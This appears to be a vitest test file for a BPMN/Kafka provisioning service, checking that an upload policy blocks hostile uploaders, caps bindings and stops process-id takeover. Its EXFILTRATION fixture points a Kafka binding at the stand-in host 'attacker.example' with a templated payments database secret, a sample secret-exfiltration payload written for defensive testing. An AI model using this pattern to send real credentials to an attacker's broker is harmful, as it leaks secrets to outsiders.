import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { main } from '../../lib/cli/main.js';
import { captureIo } from '../cli/cliIo.js';
import {
  type ProvisionerTestEnv,
  startProvisionerEnv,
} from '../functions/helpers/provisionerEnv.js';
import { bpmnXml } from '../support/bpmn.js';
import { measure } from './measure.js';

const SHARED_PASSWORD = 'payments-db-Pw_41c9';
const POLICY = JSON.stringify([
  { processes: ['order'], secrets: ['orders/'] },
  { path: 'processes/payments/', secrets: ['payments/', ''] },
]);

/** A file of `count` Kafka elements of one process. */
const fileOf = (
  processId: string,
  count: number,
  element: { servers?: string; password?: string } = {}
) =>
  bpmnXml({
    id: processId,
    elements: Array.from({ length: count }, (_, i) => ({
      id: `E${i}`,
      topic: `topic-${i}`,
      groupId: `${processId}-${i}`,
      ...(element.servers === undefined ? {} : { servers: element.servers }),
      ...(element.password === undefined
        ? {}
        : { username: 'attacker', password: element.password }),
    })),
  });

/** The shared secret, sent to a broker of the uploader's choice. */
const EXFILTRATION = fileOf('order', 1, {
  servers: 'attacker.example:9093',
  password: '{{secrets.PAYMENTS_DB_PASSWORD}}',
});

describe('What an uploader can do: the upload policy', () => {
  describe('kafka-inbound validate', () => {
    let dir: string;

    beforeAll(async () => {
      dir = await mkdtemp(join(tmpdir(), 'hostile-policy-'));
    });

    afterAll(async () => {
      await rm(dir, { recursive: true, force: true });
    });

    const validate = async (
      name: string,
      xml: string,
      env: Record<string, string>,
      extra: string[] = []
    ) => {
      const file = join(dir, name);
      await writeFile(file, xml);
      const io = captureIo(env);
      const code = await main(['validate', ...extra, file], io);
      return { code, text: [...io.stdout, ...io.stderr].join('\n') };
    };

    it('reports a secret reference the policy does not allow, naming element and property', async () => {
      // Act
      const { code, text } = await validate('order.bpmn', EXFILTRATION, {
        SECRET_REFERENCE_POLICY: POLICY,
      });

      // Assess
      expect(code).toBe(1);
      expect(text).toContain(
        'error: [E0] authentication.password: {{secrets.PAYMENTS_DB_PASSWORD}} (in authentication.password) is not allowed by the upload policy: process order in processes/order.bpmn may reference only names starting with "orders/"'
      );
    });

    it('evaluates path rules for the key the file would get (--prefix)', async () => {
      // Act
      const { code } = await validate(
        'order.bpmn',
        EXFILTRATION,
        { SECRET_REFERENCE_POLICY: POLICY },
        ['--prefix', 'processes/payments/']
      );

      // Assess
      expect(code).toBe(0);
    });

    it('reports a file over the per-file binding cap', async () => {
      // Act
      const { code, text } = await validate(
        'many.bpmn',
        fileOf('many', 21),
        {}
      );

      // Assess
      expect(code).toBe(1);
      expect(text).toContain(
        'The file defines 21 Kafka bindings; the upload policy allows at most 20 per file (MAX_BINDINGS_PER_FILE)'
      );
    });

    it('refuses to run with a policy that is not valid rules', async () => {
      // Act
      const { code, text } = await validate('order.bpmn', EXFILTRATION, {
        SECRET_REFERENCE_POLICY: '{"processes":["order"]}',
      });

      // Assess
      expect(code).toBe(2);
      expect(text).toContain(
        'SECRET_REFERENCE_POLICY: must be a JSON array of rules'
      );
    });
  });

  describe('provisioner (moto, Camunda double)', () => {
    let aws: ProvisionerTestEnv;
    const saved: Record<string, string | undefined> = {};

    beforeAll(async () => {
      aws = await startProvisionerEnv();
      for (const name of ['SECRET_REFERENCE_POLICY', 'MAX_BINDINGS_PER_FILE']) {
        saved[name] = aws.env[name];
      }
    });

    afterAll(async () => {
      await aws?.stop();
    });

    beforeEach(async () => {
      await aws.reset();
      for (const [name, value] of Object.entries(saved)) {
        if (value === undefined) delete aws.env[name];
        else aws.env[name] = value;
      }
      await aws.createReferencedSecret('PAYMENTS_DB_PASSWORD', SHARED_PASSWORD);
    });

    const upload = async (name: string, xml: string) => {
      const version = await aws.upload(name, xml);
      const result = await aws.handler()(
        aws.notification('created', name, version),
        aws.context()
      );
      return result.outcomes[0]?.outcome;
    };

    /** Whether the shared secret's value reached anything the uploader controls. */
    const sharedSecretSent = async () => {
      const names = await aws.secretNames();
      const values = await Promise.all(names.map((n) => aws.secretValue(n)));
      return (
        aws.esm.createRequests().length > 0 ||
        values.some(
          (value, i) =>
            value?.includes(SHARED_PASSWORD) &&
            !names[i]?.endsWith('secrets/PAYMENTS_DB_PASSWORD')
        )
      );
    };

    it('never sends a shared secret the policy does not allow to a broker of the uploader’s choice', async () => {
      // Prepare
      aws.env.SECRET_REFERENCE_POLICY = POLICY;

      // Act
      const outcome = await upload('order.bpmn', EXFILTRATION);

      // Assess
      expect(outcome?.kind).toBe('rejected');
      expect(await sharedSecretSent()).toBe(false);
      expect(aws.camunda.requestsTo('/v2/deployments', 'POST')).toHaveLength(0);
      expect(JSON.stringify([...(await aws.items()).values()])).toContain(
        'is not allowed by the upload policy'
      );
    });

    it('without a policy, still sends it (the policy is opt-in; docs/binding-model.md)', async () => {
      // Act
      const outcome = await upload('order.bpmn', EXFILTRATION);

      // Assess
      expect(outcome?.kind).toBe('applied');
      expect(await sharedSecretSent()).toBe(true);
    });

    it('refuses 800 bindings from one file within its bounds, creating no alias and no ESM', async () => {
      // Act
      const { result, cost } = await measure(() =>
        upload('many.bpmn', fileOf('many', 800))
      );

      // Assess
      expect(result?.kind).toBe('rejected');
      expect(await aws.aliasNames()).toEqual([]);
      expect(aws.esm.createRequests()).toEqual([]);
      expect(JSON.stringify([...(await aws.items()).values()])).toContain(
        'The file defines 800 Kafka bindings'
      );
      expect(cost.elapsedMs).toBeLessThan(20_000);
    });

    it('refuses a second file that claims the process id of another, leaving Camunda and the ESMs as they were', async () => {
      // Prepare
      expect((await upload('order.bpmn', fileOf('order', 1)))?.kind).toBe(
        'applied'
      );
      const deployments = aws.camunda.requestsTo('/v2/deployments', 'POST');
      const esmsBefore = aws.esm.list().map((m) => m.UUID);

      // Act
      const outcome = await upload('evil.bpmn', fileOf('order', 2));

      // Assess
      expect(outcome).toEqual({ kind: 'rejected', processIds: [] });
      expect(aws.camunda.requestsTo('/v2/deployments', 'POST')).toEqual(
        deployments
      );
      expect(aws.esm.list().map((m) => m.UUID)).toEqual(esmsBefore);
      const items = [...(await aws.items()).values()];
      expect(items.find((i) => i.pk === 'PROCESS#order')?.sourceKey).toBe(
        'processes/order.bpmn'
      );
      expect(JSON.stringify(items)).toContain(
        'Process order is provisioned from processes/order.bpmn; a second file cannot take it over'
      );
    });

    it('lets a file take a process over once the owner file is deleted', async () => {
      // Prepare
      await upload('order.bpmn', fileOf('order', 1));
      await aws.remove('order.bpmn');

      // Act: the new file arrives before the old one's removal event.
      const outcome = await upload('order-v2.bpmn', fileOf('order', 2));

      // Assess
      expect(outcome?.kind).toBe('applied');
      const items = [...(await aws.items()).values()];
      expect(items.find((i) => i.pk === 'PROCESS#order')?.sourceKey).toBe(
        'processes/order-v2.bpmn'
      );
    });
  });
});
